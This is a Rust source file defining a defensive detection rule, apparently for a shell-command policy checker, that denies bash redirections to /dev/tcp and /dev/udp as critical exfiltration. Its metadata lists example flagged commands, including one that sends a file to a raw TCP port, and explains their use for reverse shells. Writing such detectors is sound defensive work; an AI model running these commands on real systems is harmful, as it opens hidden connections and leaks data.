use crate::analysis::Analysis;
use crate::rules::{at_span, RuleMeta};
use airlock_protocol::{Category, Decision, Finding, Severity};

pub static META: RuleMeta = RuleMeta {
    code: "EXF005",
    name: "dev-tcp-socket",
    category: Category::Exfiltration,
    severity: Severity::Critical,
    decision: Decision::Deny,
    summary: "A redirection to or from bash's `/dev/tcp/HOST/PORT` or `/dev/udp/HOST/PORT` pseudo-files.",
    why: "These open raw network connections from the shell itself, with no network program that a policy or a reviewer would notice. \
          They are used for reverse shells and for sending files out (`cat file > /dev/tcp/host/port`).",
    instead: "Use `curl` or `nc` against a host you trust, visibly.",
    references: &["CWE-200", "ATT&CK T1059.004", "ATT&CK T1095"],
    flags: &["cat notes.txt > /dev/tcp/10.0.0.1/4444", "exec 3<>/dev/tcp/example.com/80", "echo hi >/dev/udp/10.0.0.2/53"],
    passes: &["echo hi > /dev/null", "cat /dev/urandom | head -c 16 | xxd"],
};

pub fn check(a: &Analysis, m: &RuleMeta, out: &mut Vec<Finding>) {
    for cmd in &a.cmds {
        for r in &cmd.redirects {
            let t = r.target.text();
            if t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/") {
                out.push(at_span(
                    a,
                    m,
                    cmd.span,
                    format!("opens a raw network connection through `{t}`"),
                ));
            }
        }
        for arg in &cmd.args {
            let t = arg.text();
            if (t.contains("/dev/tcp/") || t.contains("/dev/udp/"))
                && !cmd.is(&["echo", "printf", "grep"])
            {
                out.push(at_span(
                    a,
                    m,
                    cmd.span,
                    format!("opens a raw network connection through `{}`", arg.raw),
                ));
            }
        }
    }
}
